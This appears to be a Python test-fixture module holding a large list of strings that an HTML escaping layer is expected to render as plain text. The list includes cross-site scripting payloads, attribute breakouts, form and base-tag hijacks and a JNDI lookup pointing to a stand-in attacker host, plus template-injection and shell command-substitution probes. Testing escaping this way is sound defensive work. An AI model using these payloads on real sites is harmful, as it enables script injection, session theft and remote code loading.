"""payloads.py: markup and script that must stay text, in every context a page could put it."""

_EVENTS = ("onload", "onerror", "onfocus", "onmouseover", "onclick", "ontoggle", "onbegin", "onpointerenter", "onanimationend")
_TAGS = ("script", "img", "svg", "iframe", "object", "embed", "math", "video", "audio", "details", "marquee", "body", "form", "input",
         "textarea", "select", "style", "link", "meta", "base", "title", "template", "noscript", "xmp", "plaintext", "isindex", "frameset")

MARKUP = [f"<{tag} {event}=alert(1)>" for tag, event in zip(_TAGS, _EVENTS * 4)] + [f"</{tag}><script>alert(1)</script>" for tag in _TAGS[:18]]
TEXT = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script/src=//evil.example>", "<<script>alert(1)//<</script>", "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script>", "<b>bold</b>", "<!--", "-->", "<!-- --!>",
    "<![CDATA[<script>]]>", "<?xml version='1.0'?>", "<!DOCTYPE x>", "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,x'>", "&lt;script&gt;", "&#60;script&#62;",
    "&#x3c;script&#x3e;", "&amp;lt;", "&", "&copy", "&#0;", "<", ">", "\"", "'", "`", "<x", "</", "</x", "<%= 7*7 %>", "<?php phpinfo() ?>",
]
ATTRIBUTE = [
    '" onfocus=alert(1) autofocus x="', "' onfocus=alert(1) autofocus x='", '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" type="image" src=x onerror="alert(1)',
    '" formaction="//evil.example', '" style="position:fixed', "` onload=alert(1) `", '"/><svg/onload=alert(1)>', '" name="csrf', '"\tonclick="x', '"\nonclick="x', '" value="', "x onclick=alert(1)",
    '" autofocus="', '" form="x', '"><input name="csrf" value="x', '"></form><form action="//evil.example">', '"><base href="//evil.example">',
    '"><meta http-equiv="refresh" content="0;url=//evil.example">', '"><link rel=stylesheet href=//evil.example>',
]
TEMPLATE = ["{{7*7}}", "{{csrf}}", "{{{csrf}}}", "{{&csrf}}", "{{#errors}}x{{/errors}}", "{{>layout}}", "{{<layout}}", "{{!x}}", "{{=<% %>=}}", "}}{{", "${7*7}", "#{7*7}", "%s%s%n", "%{HOST}", "$(id)", "`id`",
            "\\u003cscript\\u003e", "\\x3cscript\\x3e", "${jndi:ldap://evil.example/x}"]
URL = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "//evil.example", "https://evil.example/\"onclick=", "vbscript:x", "/\"><script>", "#\"><script>"]
ENCODED = ["+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "+/v8-", "%3Cscript%3E", "%253Cscript%253E", "\u2039script\u203a", "\uff1cscript\uff1e", "\u02bascript\u02ba", "\u00ab\u00bb", "\U0001f600<svg>", "caf\u00e9\"<i>",
           "\u0130\u0131<\u017f>", "a\u0301\"'<>"]

PAYLOADS = MARKUP + TEXT + ATTRIBUTE + TEMPLATE + URL + ENCODED
